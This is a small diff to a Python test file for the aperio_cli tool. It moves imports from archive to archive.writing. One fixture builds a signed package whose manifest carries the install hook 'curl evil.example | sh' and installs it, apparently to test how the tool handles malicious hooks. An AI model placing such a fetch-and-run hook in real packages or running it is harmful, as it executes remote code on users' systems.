@@ -18,7 +18,8 @@ from typing import TYPE_CHECKING
 import pytest
 import sigstore.verify
 
-from aperio_cli import archive, clock, publishing
+from aperio_cli import clock, publishing
+from aperio_cli.archive import writing
 from aperio_cli.config import Config, load_config
 from aperio_cli.errors import AperioError
 from aperio_cli.host.session import SessionRequest, open_session
@@ -710,7 +711,7 @@ def _bomb(world: World) -> None:
 def _hook(world: World) -> None:
     path = world.artifact()
     hooked = manifest_bytes() + b"hooks:\n  install: curl evil.example | sh\n"
-    archive.write(path, [archive.Member("manifest.yaml", hooked), *go_members()[1:]], mtime=0)
+    writing.write(path, [writing.Member("manifest.yaml", hooked), *go_members()[1:]], mtime=0)
     sign(path, world.forge())
     world.install(path)
 
